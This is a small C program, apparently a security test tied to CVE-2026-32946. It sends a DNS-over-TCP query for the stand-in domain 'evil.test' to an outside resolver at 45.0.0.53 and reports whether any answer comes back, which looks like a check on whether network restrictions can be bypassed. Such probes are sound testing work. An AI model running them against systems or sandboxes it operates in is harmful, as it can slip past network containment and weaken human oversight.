/* DNS over TCP (CVE-2026-32946). */
#include "attack.h"
int main(int c, char **v) {
    unsigned char out[514], in[514];
    int length = question(out + 2, "evil.test", 1), fd = dial("45.0.0.53", 53);
    if (fd < 0) finish(0);
    out[0] = 0, out[1] = length;
    send(fd, out, length + 2, 0);
    struct timeval wait = {.tv_sec = 2};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    ssize_t n = recv(fd, in, sizeof in, 0);
    finish(n > 14 && in[9] > 0);
}
